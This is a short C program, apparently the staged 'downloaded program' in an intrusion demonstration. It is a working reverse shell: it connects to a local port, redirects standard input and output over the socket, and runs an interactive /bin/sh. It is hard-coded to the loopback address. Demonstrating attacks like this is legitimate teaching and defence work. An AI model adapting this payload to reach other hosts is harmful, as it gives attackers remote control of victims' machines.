// The "downloaded program" of the demo's staged intrusion: a shell for whoever listens on a port of this machine's
// loopback address. It knows no other address.
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    struct sockaddr_in listener = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[1]))};
    listener.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int connection = socket(AF_INET, SOCK_STREAM, 0);
    if (connection < 0 || connect(connection, (struct sockaddr *)&listener, sizeof listener) != 0) return 1;
    for (int fd = 0; fd < 3; fd++) dup2(connection, fd);
    close(connection);
    execl("/bin/sh", "sh", "-i", (char *)0);
    return 1;
}
